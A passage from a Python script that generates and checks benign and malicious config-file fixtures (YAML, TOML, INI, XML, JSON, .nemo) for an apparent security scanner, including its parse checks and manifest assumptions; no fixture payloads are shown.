    """Every YAML fixture composes with PyYAML (nodes only, nothing constructed) except the unparsable one, and
    the benign ones safe_load; the benign TOML, INI and XML parse with Python's own readers."""
    for f in fixtures:
        if f.file.endswith(".nemo"):
            continue
        text = f.data.decode()
        if f.file.endswith(".yaml"):
            try:
                list(yaml.compose_all(text, Loader=yaml.SafeLoader))
            except yaml.YAMLError:
                assert f.file == "malicious/unparsable.yaml", f.file
            if f.kind == "benign":
                list(yaml.safe_load_all(text))
        elif f.kind != "benign":
            continue
        elif f.file.endswith(".toml"):
            tomllib.loads(text)
        elif f.file.endswith((".cfg", ".ini")) and "yolov3" not in f.file:  # Darknet repeats its sections
            configparser.ConfigParser(interpolation=None).read_string(text)
        elif f.file.endswith((".xml", ".pmml")):
            xml.dom.minidom.parseString(f.data)
        elif f.file.endswith(".json"):
            json.loads(text)


def main() -> None:
    fixtures = [*yaml_tags(), *targets(), *structure(), *credential_fixtures(), *xml_fixtures(), *benign()]
    check(fixtures)
    assumptions = [
        "String values go through the shared string checks (MA005, MA011, MA012) and the credential and URL"
        " checks of scanners/secrets (MA540-MA557), which judge URLs instead of MA011's URL indicators; an XML"
        " element's text is judged under the element's name, an attribute under its name.",
        "Findings in YAML are at the line and column where the node starts (the value after its tag); in JSON at"
        " the byte offset of the value (columns count bytes); in XML at the element's start tag; in TOML at the"
        " key path only (its parser keeps no places).",
        "A .nemo archive's members are located by their names in the tar (./model_config.yaml).",
        "Benign files are shaped after real ones (Hydra, NeMo, LightningCLI, transformers, setuptools, Darknet,"
        " sklearn2pmml, log4j) and must stay clean.",
    ]
    manifest = build_manifest("scripts/make_config_fixtures.py",
                              {"python": python_version(), "pyyaml": yaml.__version__, "torch": torch.__version__},
                              assumptions, fixtures)
    write_fixtures(OUT, fixtures, manifest, max_fixture_bytes=MAX_FIXTURE_BYTES, max_total_bytes=MAX_AREA_BYTES)


if __name__ == "__main__":
    main()
